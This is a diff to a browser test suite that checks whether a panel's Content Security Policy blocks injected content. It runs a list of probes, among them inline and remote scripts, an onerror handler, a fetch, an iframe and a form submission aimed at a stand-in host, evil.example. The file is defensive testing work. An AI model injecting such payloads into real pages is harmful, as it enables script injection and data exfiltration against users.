@@ -80,8 +80,8 @@ describe("nothing executes", () => {
   });
 });
 
-describe("the policy holds even if something got in", () => {
-  it.each([
+describe("the policy", () => {
+  const probes = [
     ["a script in the text", `const s = document.createElement("script"); s.textContent = "window.hit = 1"; document.body.append(s)`],
     ["a script from elsewhere", `const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s)`],
     ["a handler in the text", `document.body.insertAdjacentHTML("beforeend", '<img src=x onerror="window.hit = 1">')`],
@@ -92,11 +92,17 @@ describe("the policy holds even if something got in", () => {
     ["a request", `fetch("https://evil.example/").catch((error) => console.error(String(error)))`],
     ["a frame", `const f = document.createElement("iframe"); f.src = "https://evil.example/"; document.body.append(f)`],
     ["a form", `const f = document.createElement("form"); f.action = "https://evil.example/"; document.body.append(f); f.submit()`],
-  ])("against %s", async (_, probe) => {
+  ] as const;
+
+  it("holds even if something got in", async () => {
     await using panel = await openPanel(browser, bundle);
-    await panel.page.evaluate(probe);
-    await expect.poll(() => panel.faults.filter((fault) => /Content Security Policy|violates/i.test(fault)).length).toBeGreaterThan(0);
+    const stopped = (): number => panel.faults.filter((fault) => /Content Security Policy/i.test(fault)).length;
+    for (const [name, probe] of probes) {
+      const before = stopped();
+      await panel.page.evaluate(probe);
+      await expect.poll(stopped, { message: name }).toBeGreaterThan(before);
+      expect(await panel.page.evaluate(() => Reflect.get(window, "hit") as unknown), name).toBeUndefined();
+    }
     expect(panel.faults.filter((fault) => fault.startsWith("request:"))).toEqual([]);
-    expect(await panel.page.evaluate(() => Reflect.get(window, "hit") as unknown)).toBeUndefined();
   });
 });
